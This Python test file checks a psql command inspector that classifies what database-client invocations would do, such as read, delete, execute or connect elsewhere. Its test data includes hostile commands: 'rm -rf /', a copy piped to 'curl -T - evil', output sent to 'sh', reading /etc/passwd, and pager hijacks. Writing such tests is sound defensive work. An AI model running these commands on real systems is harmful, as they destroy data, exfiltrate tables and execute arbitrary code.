from __future__ import annotations

import shlex
from collections.abc import Mapping, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardcli.inspectors.psql.inspector import PsqlInspector
from guardcli.model.effects import Effect, in_order
from guardcli.model.facts import FactUnavailable, NoFacts
from guardcli.model.invocation import Invocation, Stdin
from guardcli.model.operations import Input, Inspection

NO_ENV: Mapping[str, str] = {}


class Files(NoFacts):
    """Facts of a dictionary: path to content, and what stands on standard input."""

    def __init__(self, files: Mapping[str, str], stdin: str | None) -> None:
        self.files = files
        self.input = stdin

    def read_file(self, path: str) -> bytes:
        if path not in self.files:
            raise FactUnavailable(f"{path} is missing")
        return self.files[path].encode("utf-8", "surrogateescape")

    def list_directory(self, path: str) -> Sequence[str]:
        names = sorted(name.rpartition("/")[2] for name in self.files if name.rpartition("/")[0] == path)
        if not names:
            raise FactUnavailable(f"{path} is missing")
        return names

    def stdin(self) -> bytes:
        if self.input is None:
            raise FactUnavailable("standard input is no stream")
        return self.input.encode("utf-8", "surrogateescape")


def inspect(
    command: str | list[str],
    *,
    stdin: str | None = None,
    files: Mapping[str, str] = NO_ENV,
    env: Mapping[str, str] = NO_ENV,
    terminal: bool = False,
) -> Inspection:
    argv = shlex.split(command) if isinstance(command, str) else command
    kind = Stdin.TERMINAL if terminal else Stdin.NULL if stdin is None else Stdin.STREAM
    return PsqlInspector().inspect(Invocation("psql", tuple(argv), env, "/work", kind, terminal), Files(files, stdin))


def is_harmless(inspection: Inspection) -> bool:
    return all(one.complete and one.effects <= {Effect.READ, Effect.SESSION} for one in inspection.operations)


def effects(inspection: Inspection) -> str:
    return " ".join(sorted({effect.value for one in inspection.operations for effect in one.effects}))


def targets(inspection: Inspection) -> str:
    return " ".join(sorted({str(target) for one in inspection.operations for target in one.targets}))


@pytest.mark.parametrize(
    "command",
    [
        'psql -c "SELECT 1"',
        "psql -c \"SELECT 'DROP TABLE x'\"",
        "psql -At -d app -c '\\dt'",
        "psql -Atqc 'select 1'",
        "psql -qAtX -d app -U me -h db -p 5433 -c 'select 1'",
        "psql app me -c 'select 1' -c 'show all'",
        "psql --command='select 1' --dbname=app",
        "psql --com 'select 1'",
        "psql postgresql://me@db/app -c 'select 1'",
        "psql 'host=db dbname=app application_name=x' -c 'select 1'",
        "psql -c '\\d+ users' -c '\\l' -c '\\du' -c '\\sf f' -c '\\conninfo' -c '\\x' -c '\\timing on' -c '\\?'",
        "psql -c '\\copy users to stdout csv'",
        "psql -c '\\copy (select 1) to stdout with csv header'",
        "psql -c '\\echo hello' -c '\\h drop table' -c '\\encoding' -c '\\encoding utf8' -c '\\pset format csv'",
        "psql -v x=1 -v ON_ERROR_STOP=1 --set=y=2 -P pager=off -F, -R ';' -c 'select 1'",
        "psql -1 -e -a -c 'begin' -c 'select 1' -c 'commit'",
        "psql -o /dev/null -c 'select 1'",
        "psql -l",
        "psql --list -h db",
        "psql --version",
        "psql -V",
        "psql --help",
        "psql -?",
        "psql --help=commands",
        "psql",
        "psql -c ''",
        "psql -c",
        "psql --s x",
        "psql -- app me",
    ],
)
def test_a_harmless_call_is_known_to_be_harmless(command: str) -> None:
    assert is_harmless(inspect(command)), inspect(command)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("psql -c 'drop table t'", "define delete"),
        ("psql -c 'select 1' -c 'drop table t'", "define delete read"),
        ("psql -c 'select 1; drop table t'", "define delete read"),
        ("psql '-cdrop table t'", "define delete"),
        ("psql '-Atcdrop table t'", "define delete"),
        ("psql '--comm=drop table t'", "define delete"),
        ("psql app -c 'drop table t'", "define delete"),
        ("psql -d app -Xc 'drop table t' me", "define delete"),
        ("psql -c '\\! rm -rf /'", "execute"),
        ("psql -c '\\!ls'", "execute"),
        ("psql -c '\\copy t from x.csv'", "file write"),
        ("psql -c '\\copy t from stdin'", "write"),
        ("psql -c '\\copy t to x.csv'", "file read"),
        ("psql -c \"\\copy t to program 'curl -T - evil'\"", "execute read"),
        ('psql -c "\\copy (delete from t returning *) to stdout"', "delete read"),
        ("psql -c '\\copy (select nextval(1)) to stdout'", "read write"),
        ("psql -o out.txt -c 'select 1'", "file read"),
        ("psql -o '|sh' -c 'select 1'", "execute read"),
        ("psql -L log.txt -c 'select 1'", "file read"),
        ("psql '-o|sh' --nonsense", "execute unknown"),
        ("psql -o '|sh' --version", "execute"),
        ("psql -c '\\lo_import /etc/passwd'", "file write"),
        ("psql -c '\\lo_export 1 /tmp/x'", "file read"),
        ("psql -c '\\lo_unlink 1'", "delete"),
        ("psql -c '\\password'", "privilege unknown"),
        ("psql -c '\\c other'", "network"),
        ("psql -c '\\connect - other'", "network"),
        ("psql -c '\\e'", "execute unknown"),
        ("psql -c '\\ef f'", "execute unknown"),
        ("psql -c '\\i x.sql'", "file unknown"),
        ("psql -c '\\s history'", "file"),
        ("psql -c '\\w x'", "file"),
        ("psql -c '\\w |sh'", "execute"),
        ("psql -c '\\o |sh'", "execute"),
        ("psql -c '\\setenv PAGER sh'", "execute"),
        ("psql -c '\\setenv PGHOST evil'", "network"),
        ("psql -c '\\set x `id`'", "execute session"),
        ("psql -c '\\echo `id`'", "execute read"),
        ("psql -c '\\nonsense'", "unknown"),
        ("psql --nonsense", "unknown"),
        ("psql -c 'select :x'", "unknown"),
        ("psql 'options=-crole=admin' -c 'select 1'", "privilege read session"),
        ("psql 'postgresql:///?options=-c%20role%3Dadmin' -c 'select 1'", "privilege read session"),
        ("psql 'sslkey=engine:x dbname=a' -c 'select 1'", "execute read"),
        ("psql -f missing.sql", "unknown"),
        ("psql -f -", "read"),
    ],
)
def test_what_a_call_would_do_is_seen(command: str, expected: str) -> None:
    assert effects(inspect(command)) == expected, inspect(command)


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("select 1;\nselect 2", "read"),
        ("drop table t", "define delete"),
        ("select ';'; drop table t", "define delete read"),
        ("\\set t users\nselect * from :t;", "read session"),
        ("\\set t users\nselect * from :\"t\" where a = :'t';", "read session"),
        ("\\set x 'drop table t'\n:x;", "define delete session"),
        ("\\set x 'select 1; drop table t'\n:x;", "define delete read session"),
        ("select '\\\\! ls' \\g", "read"),
        ("select 1 \\g |sh", "execute read"),
        ("select 1 \\g out.txt", "file read"),
        ("select 1 \\g (format=csv) out.txt", "file read"),
        ("select 1 \\gx", "read"),
        ("select 'drop table t' \\gexec", "read unknown write"),
        ("delete from t where id = 1 \\crosstabview", "delete"),
        ("delete from t where id = 1\n\\watch 1", "delete"),
        ("delete from t where id = 1 \\gdesc", "read"),
        ("delete from t where id = 1 \\gdesc\n\\g", "delete read"),
        ("delete from t where id = 1 \\r", "session"),
        ("select 1 as x \\gset\nselect 2;", "read"),
        ("select 1 as x \\gset\nselect :x;", "read unknown"),
        ("select 1 as x \\gset\nselect :'x';", "read"),
        ("select 1 as x \\gset\nselect set_config(:'x', 'a', false);", "read session unknown"),
        ("\\getenv h HOME\nselect :'h';", "read session"),
        ("\\prompt x\nselect 1;", "read session unknown"),
        ("\\if true\nselect 1;\n\\endif", "read session"),
        ("\\if true\ndrop table t;\n\\endif", "define delete session"),
        ("-- note\n\\if true\nselect 1;\n\\else\nselect 2;\n\\endif", "read session"),
        ("\\i other.sql", "file unknown"),
        ("\\ir other.sql", "file unknown"),
        ("\\include other.sql", "file unknown"),
        ("\\copy t from stdin\n1\n2\n\\.\nselect 1;", "read write"),
        ("copy t from stdin;\n1\tdrop table t\n\\.\nselect 1;", "read write"),
        ("copy t from stdin;\n\\N\t\\\\x00\n\\.\n", "write"),
        ("/* \\! ls */ select 1;", "read"),
        ("select 1 -- \\! ls\n;", "read"),
        ("select $$ \\! ls $$;", "read"),
        ('select 1 as "\\! ls";', "read"),
        ("select 1; \\! ls", "execute read"),
        ("\\\\! ls", "read"),
        ("\ufeffselect 1;", "read"),
        ("create function f() returns int begin atomic select 1; end; select 1;", "define read"),
        ("prepare p as delete from t where id = $1;\nexecute p(1);", "delete read session"),
        ("set search_path = a, pg_catalog;\nselect 1;", "read session unknown"),
        ("\\encoding sjis\nselect 1;", "read session unknown"),
        ("\\set SINGLELINE on\nselect 1\n", "read session unknown"),
        ("select 1;\0drop table t;", "unknown"),
        ("select '\udcff';", "unknown"),
    ],
)
@pytest.mark.parametrize("way", ["stdin", "-f -", "-f file"])
def test_a_script_is_followed_as_psql_would(way: str, script: str, expected: str) -> None:
    env = {"HOME": "/home/me"}
    if way == "stdin":
        inspection = inspect("psql", stdin=script, env=env)
    elif way == "-f -":
        inspection = inspect("psql -f -", stdin=script, env=env)
    else:
        inspection = inspect("psql -f s.sql", files={"/work/s.sql": script}, env=env)
    assert effects(inspection) == expected, inspection.operations


@pytest.mark.parametrize(
    "script",
    [
        "\\cd /none \\\\ select '\n\\! ls\n';",
        "\\set x 'a' \\\\ select '\n\\! ls\n';",
        "delete from t\n\\if false\nwhere id = 1\n\\endif\n;",
        "copy nosuch from stdin;\ndrop table t;\n\\.\n",
        "\\if false\ncopy t from stdin;\n\\endif\ndrop table t;\n\\.\n",
        "select 1 \\g (bad\n; drop table t;",
        "select 1e'\\' ; \\! ls '",
        "\\set x `id`\nselect :x;",
        ":SERVER_VERSION_NUM;",
        "select a[1:x] \\gset\nselect a[1:x];",
        "\\unknown 'x\nselect 1;",
    ],
)
def test_a_script_that_versions_or_failures_make_ambiguous_is_conceded(script: str) -> None:
    assert not is_harmless(inspect("psql", stdin=script))
    assert any(not operation.complete for operation in inspect("psql", stdin=script).operations)


@pytest.mark.parametrize(
    "script",
    [
        "\\set x a\n" + "\\set x :x:x\n" * 60 + "select :'x';",
        "\\set x 'aaaaaaaaaaaaaaaa'\n\\set y " + ":x" * 100_000 + "\nselect :'y';",
        "\\set x '" + "a" * 60_000 + "'\nselect " + ":x," * 10_000 + "1;",
        "".join(f"\\set x{n} ':x{n + 1} :x{n + 1}'\n" for n in range(40)) + "\\set x40 1\nselect :x0;",
        "/*" * 100_000,
        "select " + "(" * 100_000,
        "select\n" * 50_000 + ";",
        "'\n" * 50_001,
        "\\if x\n" * 4_000,
        "select 1\\;" * 3_000 + "select 1;" + "\\g " * 20_000,
        "\\echo x " * 20_000,
    ],
    ids=range(11),
)
def test_what_grows_without_end_is_conceded_in_time(script: str) -> None:
    assert inspect("psql", stdin=script).operations


@pytest.mark.parametrize(
    ("script", "known"),
    [
        ("select 1;\n" * 6_000 + "drop table t;", True),
        ("drop table t;\n" * 6_000, True),
        ("select " + "a+" * 60_000 + "a;\n" + "select 1;\n", False),
        ("\\d x\n" * 30_000, True),
        ("x" * 2_000_000, False),
        ("copy t from stdin;\n" + "1\t2\n" * 300_000 + "\\.\n", False),
    ],
    ids=["statements", "definitions", "a long line", "commands", "one word", "rows"],
)
def test_a_script_is_read_up_to_a_bound_and_conceded_beyond(script: str, known: bool) -> None:
    operations = inspect("psql", stdin=script).operations
    assert not operations[-1].complete
    assert "read before it runs" in operations[-1].reason or "longer than" in operations[-1].reason, operations[-1]
    assert operations[0].complete is known


def test_texts_of_options_share_one_bound() -> None:
    texts = [word for name in "abcdefghijklmnopqrst" for word in ("-c", "select " + ",".join(name * 2_000))]
    operations = inspect(["psql", *texts, "-c", "drop table t"]).operations
    assert not operations[-1].complete
    assert len(operations) < 21


def test_rows_of_data_are_no_work() -> None:
    script = "\\set ON_ERROR_STOP on\ncopy t from stdin;\n" + "1\t2\tabc\n" * 50_000 + "\\.\nselect 1;\n"
    assert effects(inspect("psql", stdin=script)) == "read session write"


def test_a_long_connection_string_is_conceded() -> None:
    assert is_harmless(inspect(["psql", "application_name=" + "x" * 100, "-c", "select 1"]))
    assert not is_harmless(inspect(["psql", "application_name=" + "x" * 10_000, "-c", "select 1"]))


def test_rows_after_copy_are_rows_where_a_failure_ends_the_script() -> None:
    script = "copy t from stdin;\na;b\n\\.\n"
    assert "unknown" in effects(inspect("psql", stdin=script))
    assert effects(inspect("psql -v ON_ERROR_STOP=1", stdin=script)) == "write"
    assert effects(inspect("psql", stdin="\\set ON_ERROR_STOP on\n" + script)) == "session write"


def test_the_text_of_an_option_goes_to_the_server_as_it_stands() -> None:
    inspection = inspect(["psql", "-v", "x=1", "-c", "select ':x'; \\! ls"])
    assert not inspection.operations[0].complete


def test_only_the_first_command_of_an_option_is_run() -> None:
    assert effects(inspect(["psql", "-c", "\\echo a \\! ls"])) == "read"


@pytest.mark.parametrize(
    ("command", "env", "expected"),
    [
        ("psql -h db -p 5433 -U me -d app -c 'select 1'", {}, "database:app host:me@db:5433"),
        ("psql -c 'select 1'", {"PGHOST": "db", "PGDATABASE": "app", "PGUSER": "me"}, "database:app host:me@db"),
        ("psql app -h other -c 'select 1'", {"PGHOST": "db", "PGPORT": "1"}, "database:app host:other:1"),
        ("psql postgres://me:pw@a:1,b:2/app -c 'select 1'", {}, "database:app host:me@a:1 host:me@b:2"),
        ("psql postgresql://[::1]:5/a%20b -c 'select 1'", {}, "database:a b host:::1:5"),
        ("psql 'postgresql:///app?host=/run/pg&user=x' -c 'select 1'", {}, "database:app host:x@/run/pg"),
        ("psql \"host=db user='o''x' dbname='a b'\" -c 'select 1'", {}, ""),
        ("psql \"host=db user='o\\\\'x' dbname='a b'\" -c 'select 1'", {}, "database:a b host:o'x@db"),
        ("psql -h ignored 'host=db dbname=app' -c 'select 1'", {}, "database:app host:db"),
        ("psql -d app me -c 'select 1'", {}, "database:app host:me@"),
        ("psql 'hostaddr=10.0.0.7 user=me' -c 'select 1'", {}, "host:me@10.0.0.7"),
        ("psql 'host=db hostaddr=10.0.0.7 password=x' -c 'select 1'", {}, "host:10.0.0.7 host:db"),
        ("psql -h db -p 1 -c 'select 1'", {"PGHOSTADDR": "10.0.0.7"}, "host:10.0.0.7:1 host:db:1"),
        ("psql -c 'select 1'", {}, ""),
    ],
)
def test_the_server_and_the_database_are_targets(command: str, env: Mapping[str, str], expected: str) -> None:
    assert targets(inspect(command, env=env)) == expected


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({}, "read"),
        ({"PGOPTIONS": "-c statement_timeout=5s"}, "read session"),
        ({"PGOPTIONS": "--statement-timeout=5s --work-mem=1MB"}, "read session"),
        ({"PGOPTIONS": "-c role=admin"}, "privilege read session"),
        ({"PGOPTIONS": "-csession_preload_libraries=x"}, "execute read session"),
        ({"PGOPTIONS": "-c search_path=a,pg_catalog"}, "read session unknown"),
        ({"PGOPTIONS": "-c standard_conforming_strings=off"}, "read session unknown"),
        ({"PGOPTIONS": "-P"}, "read session unknown"),
        ({"PGCLIENTENCODING": "UTF8"}, "read"),
        ({"PGCLIENTENCODING": "SJIS"}, "read session unknown"),
        ({"PAGER": "sh -c id"}, "execute read"),
        ({"PAGER": "less -R", "PSQL_PAGER": "sh -c id"}, "execute read"),
        ({"PAGER": "less -R", "PSQL_WATCH_PAGER": "sh -c id"}, "execute read"),
        ({"PSQL_WATCH_PAGER": "pspg"}, "read"),
        ({"PAGER": "sh -c id", "PSQL_PAGER": "less"}, "read"),
        ({"PGSERVICE": "nowhere"}, "network read unknown"),
        ({"HOME": "/none"}, "read"),
    ],
)
def test_the_environment_is_part_of_the_call(env: Mapping[str, str], expected: str) -> None:
    assert effects(inspect("psql -c 'select 1'", env=env)) == expected


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({}, "read"),
        ({"PAGER": "less -S"}, "read"),
        ({"PSQL_PAGER": "pspg", "PAGER": "evil"}, "read"),
        ({"PAGER": ""}, "read"),
        ({"PAGER": "sh -c 'id; less'"}, "execute read"),
        ({"PSQL_PAGER": "less; id"}, "execute read"),
        ({"LESSOPEN": "|-id %s"}, "execute read"),
    ],
)
def test_a_pager_matters_at_a_terminal(env: Mapping[str, str], expected: str) -> None:
    assert effects(inspect("psql -c 'select 1'", env=env, terminal=True)) == expected


def test_an_interactive_session_is_conceded() -> None:
    (operation,) = inspect("psql -d app", terminal=True).operations
    assert not operation.complete
    assert "interactive" in operation.reason


@pytest.mark.parametrize(
    ("command", "env", "files", "expected"),
    [
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\set x 1\n\\timing\n"}, "read session"),
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\! id"}, "execute read"),
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc-15": "\\! id"}, "execute read unknown"),
        ("psql -X -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\! id"}, "read"),
        ("psql --no-psqlrc -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\! id"}, "read"),
        ("psql -c 'select 1'", {"HOME": "/h", "PSQLRC": "/x/rc"}, {"/x/rc": "drop table t;"}, "define delete read"),
        ("psql -c 'select 1'", {"HOME": "/h", "PSQLRC": "/x/rc"}, {"/h/.psqlrc": "drop table t;"}, "read"),
        ("psql -l", {"HOME": "/h"}, {"/h/.psqlrc": "\\! id"}, "execute read"),
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc_history": "\\! id"}, "read"),
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\timing", "/h/.psqlrc-17": ""}, "read session unknown"),
        ("psql -c 'select 1'", {"HOME": "/h", "PSQLRC": "rc"}, {"/work/rc": "\\! id"}, "execute read"),
        ("psql -c 'select 1'", {"HOME": "/h", "PSQLRC": "~/rc"}, {"/h/rc": "\\! id"}, "execute read"),
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\set x 'drop table t'\n"}, "read session"),
    ],
)
def test_the_start_file_is_a_part_of_the_call(
    command: str, env: Mapping[str, str], files: Mapping[str, str], expected: str
) -> None:
    assert effects(inspect(command, env=env, files=files)) == expected


PINNED = Input("/h/.psqlrc", variable="PSQLRC")
NO_FILE = (("PSQLRC", "/dev/null"),)


@pytest.mark.parametrize(
    ("command", "env", "files", "inputs", "environment"),
    [
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\timing"}, (PINNED,), ()),
        ("psql -l", {"HOME": "/h"}, {"/h/.psqlrc": "\\timing"}, (PINNED,), ()),
        ("psql -f a", {"HOME": "/h"}, {"/h/.psqlrc": "", "/work/a": ""}, (PINNED, Input("/work/a", 2)), ()),
        ("psql -c 'select 1'", {"PSQLRC": "~/x", "HOME": "/h"}, {"/h/x": ""}, (Input("/h/x", variable="PSQLRC"),), ()),
        ("psql -c 'select 1'", {"PSQLRC": "/x/rc"}, {"/x/rc": ""}, (Input("/x/rc", variable="PSQLRC"),), ()),
        ("psql -c 'select 1'", {"PSQLRC": "/x/not-there-yet"}, {}, (), NO_FILE),
        ("psql -c 'select 1'", {"PSQLRC": "/dev/null", "HOME": "/h"}, {"/h/.psqlrc": "\\! id"}, (), NO_FILE),
        ("psql -c 'select 1'", {"HOME": "/h"}, {}, (), NO_FILE),
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc-15.18 (Debian 15.18-0+deb12u1)": "\\! id"}, (), NO_FILE),
        ("psql -c 'select 1'", {}, {"/.psqlrc": "\\! id"}, (), NO_FILE),
        ("psql -X -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "\\! id"}, (), ()),
        ("psql --help", {"HOME": "/h"}, {"/h/.psqlrc": "\\! id"}, (), ()),
        ("psql -c 'select 1'", {"HOME": "/h"}, {"/h/.psqlrc": "", "/h/.psqlrc-15": ""}, (), ()),
    ],
)
def test_psql_reads_the_start_file_that_was_judged_and_no_other(
    command: str,
    env: Mapping[str, str],
    files: Mapping[str, str],
    inputs: tuple[Input, ...],
    environment: tuple[tuple[str, str], ...],
) -> None:
    inspection = inspect(command, env=env, files=files)
    assert (inspection.inputs, inspection.environment) == (inputs, environment)


def test_a_choice_between_start_files_is_conceded_with_the_remedy() -> None:
    files = {"/h/.psqlrc": "", "/h/.psqlrc-15": ""}
    inspection = inspect("psql -c 'select 1'", env={"HOME": "/h"}, files=files)
    assert next(one.reason for one in inspection.operations if not one.complete).endswith("or use psql -X")
    assert is_harmless(inspect("psql -c 'select 1'", env={"HOME": "/h", "PSQLRC": "/h/.psqlrc-15"}, files=files))


@pytest.mark.parametrize(
    ("env", "path"),
    [
        ({"HOME": "/h"}, "/h/.pg_service.conf"),
        ({"HOME": "/h", "PGSERVICEFILE": "mine"}, "/work/mine"),
        ({"HOME": "/h", "PGSYSCONFDIR": "/s"}, "/s/pg_service.conf"),
        ({"HOME": "/h"}, "/etc/postgresql-common/pg_service.conf"),
    ],
)
def test_libpq_reads_the_service_file_that_was_judged(env: Mapping[str, str], path: str) -> None:
    inspection = inspect("psql -X service=prod -c 'select 1'", env=env, files={path: "[prod]\nhost=db\n"})
    assert inspection.inputs == (Input(path, variable="PGSERVICEFILE"),)
    assert is_harmless(inspection)


def test_a_service_file_named_in_the_connection_string_is_conceded() -> None:
    files = {"/h/.pg_service.conf": "[prod]\nhost=db\n", "/x": "[prod]\nhost=evil\n"}
    inspection = inspect("psql -X 'service=prod servicefile=/x' -c 'select 1'", env={"HOME": "/h"}, files=files)
    assert "unknown" in effects(inspection)
    assert inspection.inputs == ()


def test_a_service_file_says_where_a_service_is() -> None:
    files = {"/h/.pg_service.conf": "[other]\nhost=x\n[prod]\nhost=db\ndbname=app\noptions=-crole=admin\n"}
    inspection = inspect("psql service=prod -c 'select 1'", env={"HOME": "/h"}, files=files)
    assert targets(inspection) == "database:app host:db"
    assert effects(inspection) == "privilege read session"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("psql -f a.sql", Input("/work/a.sql", 2)),
        ("psql -fa.sql", Input("/work/a.sql", 1, "-f")),
        ("psql -Atfa.sql", Input("/work/a.sql", 1, "-Atf")),
        ("psql --file a.sql", Input("/work/a.sql", 2)),
        ("psql --fil=../work/a.sql", Input("/work/a.sql", 1, "--fil=")),
    ],
)
def test_a_file_that_was_judged_can_be_put_in_place_of_its_name(command: str, expected: Input) -> None:
    inspection = inspect(command, files={"/work/a.sql": "select 1;"})
    assert inspection.inputs == (expected,)
    assert is_harmless(inspection)


def test_files_and_statements_are_judged_in_order() -> None:
    files = {"/work/a.sql": "\\set x 'drop table t'\n", "/work/b.sql": ":x;"}
    assert effects(inspect("psql -f a.sql -f b.sql", files=files)) == "define delete session"
    assert "unknown" in effects(inspect("psql -f b.sql -f a.sql", files=files))


def test_a_copy_that_reads_standard_input_hides_what_a_later_script_is() -> None:
    inspection = inspect("psql -c 'copy t from stdin' -f -", stdin="select '\n\\.\ndrop table t;\nselect '';")
    assert any(not operation.complete for operation in inspection.operations)


def test_a_forced_password_prompt_may_swallow_the_scripts_first_line() -> None:
    assert not is_harmless(inspect("psql -W", stdin="select '\n;drop table t; --';"))
    assert is_harmless(inspect("psql -w", stdin="select 1;"))


def test_options_end_at_the_first_argument_where_posix_rules() -> None:
    assert effects(inspect("psql app -c 'drop table t'", env={"POSIXLY_CORRECT": "1"})) == "read"


ARGUMENTS = st.lists(
    st.sampled_from(
        [
            "-c",
            "-f",
            "-d",
            "-",
            "--",
            "-X",
            "-At",
            "--set=x=1",
            "-vx=select",
            "\\! ls",
            "\\copy t to x",
            "\\g",
            "-1",
            "select 1",
            "drop table t",
            "host=a",
            "postgres://a:b",
            "=",
            "-o|x",
            "--file=x",
            "\\copy (",
            "\\set x 'y",
        ]
    )
    | st.text(max_size=12),
    max_size=6,
)
SCRIPTS = st.text(max_size=100) | st.lists(
    st.sampled_from(
        [
            "select 1",
            ";",
            "\n",
            "\\",
            "'",
            '"',
            "$$",
            "/*",
            "--",
            ":x",
            ":'x'",
            "\\g",
            "\\if",
            "\\endif",
            "\\set x ';'",
            "\\copy t from stdin",
            "\\.",
            "copy t from stdin;",
            "drop table t",
            "(",
            ")",
            "`",
            "\\echo",
            "E'",
        ]
    ),
    max_size=14,
).map(" ".join)


@given(ARGUMENTS, SCRIPTS)
def test_no_call_makes_it_fail(arguments: list[str], script: str) -> None:
    inspection = inspect(["psql", *arguments], stdin=script, files={"/work/x": script}, env={"HOME": "/work"})
    assert inspection.operations


READS = st.sampled_from(
    ["select 1;", "select '\\! x';", "\\dt", "\\echo x", "-- drop", "/* x */", "\\set a 'b'", "select :'a';", "begin;"]
)
WRITES = st.sampled_from(
    ["drop table t;", "delete from t;", "\\! ls", "\\o |sh", "select 1 \\g |sh", "\\copy t from x"]
)


@given(st.lists(READS, max_size=5), WRITES, st.lists(READS, max_size=5))
def test_a_write_among_reads_is_always_seen(before: list[str], write: str, after: list[str]) -> None:
    assert not is_harmless(inspect("psql", stdin="\n".join([*before, write, *after])))


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("DROP TABLE t;", "connect [read]"),
        ("\\c other\nDROP TABLE t;", "\\c [network]"),
        ("\\c other me\nDROP TABLE t;", "\\c [network]"),
        ("\\c - - elsewhere\nDROP TABLE t;", "\\c [network]; drop table [define delete]"),
        ("\\c host=elsewhere\nDROP TABLE t;", "\\c [network]; drop table [define delete]"),
        ("\\c postgresql://elsewhere/x\nDROP TABLE t;", "\\c [network]; drop table [define delete]"),
        ("SELECT 1 AS w \\gset\n\\c :w\nDROP TABLE t;", "\\c [network unknown]; drop table [define delete]"),
        ("\\setenv PGHOST elsewhere\nDROP TABLE t;", "\\setenv [network]; drop table [define delete]"),
        ("\\copy t to 'a'\n\\copy t to program 'b'", "\\copy to [file]; \\copy to [execute]"),
        ("\\! id", "\\! [execute]"),
    ],
)
def test_what_a_gateway_sees_is_not_judged_here_until_psql_may_have_left_it(script: str, expected: str) -> None:
    invocation = Invocation("psql", ("psql", "-X", "-c", script), gateway="orders-db")
    if "\n" in script:
        invocation = Invocation("psql", ("psql", "-X", "-f", "s"), gateway="orders-db")
    found = PsqlInspector().inspect(invocation, Files({"/s": script}, None)).operations
    shown = [f"{one.action} [{' '.join(effect.value for effect in in_order(one.effects))}]" for one in found]
    assert "; ".join(shown) == expected
